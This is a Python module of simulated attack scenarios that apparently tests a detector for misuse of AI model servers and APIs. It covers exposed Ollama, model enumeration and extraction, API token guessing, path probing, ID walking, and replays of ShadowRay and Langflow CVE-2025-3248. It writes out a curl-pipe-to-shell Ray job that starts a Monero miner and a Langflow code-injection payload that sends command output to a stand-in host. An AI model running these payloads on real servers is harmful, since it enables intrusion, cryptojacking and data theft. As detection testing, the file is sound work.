"""Model servers of our own that strangers find, and APIs that are asked for what is not the caller's."""

from __future__ import annotations

import json

from proving.scenario import Must, attack
from proving.scenarios.movement import stratum
from proving.world import Actor, World

US = "10.77.0.10"
NOT = ("port-scan", "lateral-movement", "cryptomining", "data-exfiltration", "beaconing")


def server(world: World, kind: str, path: str, port: int, *words: str, unit: str = "") -> Actor:
    """A model server of this kind under a usual path and command line, on all addresses."""
    return server_on(world, "0.0.0.0", kind, path, port, *words, unit=unit)


def server_on(world: World, address: str, kind: str, path: str, port: int, *words: str, unit: str = "") -> Actor:
    """The same on one address."""
    actor = world.script(world.program(path, "modelserver.py"), kind, address, str(port), *words, unit=unit)
    world.listening(actor, port)
    return actor


@attack(
    "ollama-exposed",
    "Ollama listens on all addresses and answers strangers from the internet without credentials",
    imitates="Exposed Ollama (Censys and SentinelLABS, January 2026)",
    must=(Must("unauthenticated-model-server", "ollama"),),
    may=("model-enumeration", "new-ai-destination"),
    must_not=NOT,
)
def ollama(world: World) -> None:
    actor = server(world, "ollama", "/srv/bin/ollama", 11434, "serve")
    stranger = world.host("203.0.113.90")
    world.mark()
    chat = {"model": "llama3.1:8b", "messages": [{"role": "user", "content": "write a poem"}], "stream": False}
    for method, path, body in (
        ("GET", "/", None),
        ("GET", "/api/tags", None),
        ("POST", "/api/chat", chat),
        ("POST", "/api/generate", {"model": "llama3.1:8b", "prompt": "hello", "stream": False}),
    ):
        status, _ = stranger.ask(US, 11434, method, path, json.dumps(body).encode() if body else None)
        assert status == 200
        world.sleep(0.5)
    actor.stop()


@attack(
    "model-enumeration",
    "a stranger asks a model server for forty models by name, one after another",
    must=(Must("model-enumeration", "vllm"),),
    may=("unauthenticated-model-server", "api-access-violation"),
    must_not=NOT,
)
def enumeration(world: World) -> None:
    actor = server(world, "openai", "/srv/bin/vllm", 8000, "serve", "org/model-7b")
    stranger = world.host("203.0.113.91")
    names = [f"{family}-{size}" for family in ("llama", "qwen", "mistral", "gpt", "phi") for size in range(8)]
    world.mark()
    assert stranger.ask(US, 8000, "GET", "/v1/models")[0] == 200
    for name in names:
        assert stranger.ask(US, 8000, "GET", f"/v1/models/{name}")[0] == 404
        world.sleep(0.1)
    actor.stop()


@attack(
    "model-extraction",
    "one caller asks our model server 500 questions that differ, with the words' probabilities, as fast as it answers",
    must=(Must("model-extraction", "vllm"),),
    may=("unauthenticated-model-server", "token-spike", "baseline-deviation"),
    must_not=NOT,
)
def extraction(world: World) -> None:
    actor = server(world, "openai", "/srv/bin/vllm", 8000, "serve", "org/model-7b", unit="vllm.service")
    caller = world.host("203.0.113.92")
    world.mark()
    for number in range(500):
        text = f"Classify sample {number:04d}: " + " ".join(f"t{(number * 37 + n * n) % 997}" for n in range(20))
        body = {
            "model": "llama3.1:8b",
            "messages": [{"role": "user", "content": text}],
            "logprobs": True,
            "top_logprobs": 20,
        }
        headers = {"content_type": "application/json", "authorization": "Bearer customer-token-17"}
        status, _ = caller.ask(US, 8000, "POST", "/v1/chat/completions", json.dumps(body).encode(), **headers)
        assert status == 200
        world.sleep(0.02)
    actor.stop()


def shop(world: World) -> Actor:
    """An API of our own that is no model's."""
    actor = world.script(world.program("/srv/shop/api.py", "service.py"), "8080", unit="shop.service")
    world.listening(actor, 8080)
    return actor


@attack(
    "api-denied-burst",
    "one caller is refused eighty times in twelve seconds: no token, wrong tokens",
    must=(Must("api-access-violation", "shop.service", "203.0.113.93"),),
    must_not=NOT,
)
def denied(world: World) -> None:
    actor = shop(world)
    stranger = world.host("203.0.113.93")
    world.mark()
    for number in range(80):
        headers = {"authorization": f"Bearer guess-{number}"} if number % 2 else {}
        assert stranger.ask(US, 8080, "GET", f"/v1/private/{number % 4}", **headers)[0] in (401, 403)
        world.sleep(0.13)
    actor.stop()


@attack(
    "api-path-probing",
    "one caller asks for seventy paths that are not there: .env, .git/config, admin pages",
    must=(Must("api-access-violation", "shop.service", "203.0.113.94"),),
    must_not=NOT,
)
def probing(world: World) -> None:
    actor = shop(world)
    stranger = world.host("203.0.113.94")
    words = ("admin", ".env", ".git/config", "wp-login.php", "backup.zip", "config.json", "server-status")
    paths = [f"{folder}/{word}{number or ''}" for folder in ("", "/old") for word in words for number in range(5)]
    world.mark()
    for path in paths:
        assert stranger.ask(US, 8080, "GET", path)[0] == 404
        world.sleep(0.1)
    actor.stop()


@attack(
    "api-id-walking",
    "one caller with a valid token reads invoice after invoice in the order of their numbers",
    must=(Must("api-access-violation", "shop.service", "203.0.113.95"),),
    must_not=NOT,
)
def walking(world: World) -> None:
    actor = shop(world)
    caller = world.host("203.0.113.95")
    world.mark()
    for number in range(41_000, 41_120):
        assert caller.ask(US, 8080, "GET", f"/v1/invoices/{number}", authorization="Bearer customer-a")[0] == 200
        world.sleep(0.08)
    actor.stop()


@attack(
    "ray-jobs",
    "strangers submit a job to Ray's open job API; it fetches a script, which starts a miner",
    imitates="ShadowRay (CVE-2023-48022; Oligo, March 2024)",
    must=(
        Must("unauthenticated-model-server", "ray"),
        Must("shell-in-model-server", "ray", within=1.0),
        Must("cryptomining"),
    ),
    may=("unexpected-process", "beaconing", "baseline-deviation", "container-escape", "fileless-execution"),
    must_not=("port-scan",),
    tools=("curl",),
)
def ray_jobs(world: World) -> None:
    from proving.hosts import Reply

    actor = server(
        world, "ray", "/srv/venv/bin/ray", 8265, "start", "--head", "--dashboard-host=0.0.0.0", unit="ray.service"
    )
    miner = world.program("/tmp/.m/worker.py", "miner.py")
    script = f"#!/bin/sh\nexec {world.python} {miner} pool.supportxmr.com 5555 6\n"
    drop = world.host("203.0.113.96", "dl.ray-tools.example")
    drop.http(80, lambda asked: Reply(script, kind="text/x-shellscript"))
    world.host("203.0.113.97", "pool.supportxmr.com").listen(5555, stratum)
    stranger = world.host("203.0.113.98")
    job = {"entrypoint": "curl -s http://dl.ray-tools.example/r.sh | sh"}
    assert stranger.ask(US, 8265, "GET", "/api/version")[0] == 200
    world.mark()
    assert stranger.ask(US, 8265, "POST", "/api/jobs/", json.dumps(job).encode())[0] == 200
    world.sleep(11)
    assert drop.requests == ["GET /r.sh"]
    actor.stop()


@attack(
    "langflow-code",
    "a stranger posts code to Langflow's validation, which runs it: a shell that reports to a host beyond",
    imitates="Langflow CVE-2025-3248 (Flodrix)",
    must=(Must("shell-in-model-server", "langflow", within=1.0),),
    may=(
        "unauthenticated-model-server",
        "unexpected-process",
        "data-exfiltration",
        "baseline-deviation",
        "api-access-violation",
    ),
    must_not=("port-scan", "cryptomining"),
    tools=("curl",),
)
def langflow(world: World) -> None:
    from proving.hosts import Reply

    words = ("run", "--host", "0.0.0.0", "--port", "7860")
    actor = server(world, "langflow", "/srv/venv/bin/langflow", 7860, *words, unit="langflow.service")
    drop = world.host("203.0.113.99", "cb.flow-check.example")
    drop.http(80, lambda asked: Reply("ok"))
    command = "id > /tmp/o; curl -s -F f=@/tmp/o http://cb.flow-check.example/in"
    code = f"@__import__('os').system({command!r})\ndef check():\n    pass\n"
    stranger = world.host("203.0.113.100")
    world.mark()
    assert stranger.ask(US, 7860, "POST", "/api/v1/validate/code", json.dumps({"code": code}).encode())[0] == 200
    world.wait(lambda: drop.requests, "nothing was reported")
    world.sleep(1)
    actor.stop()
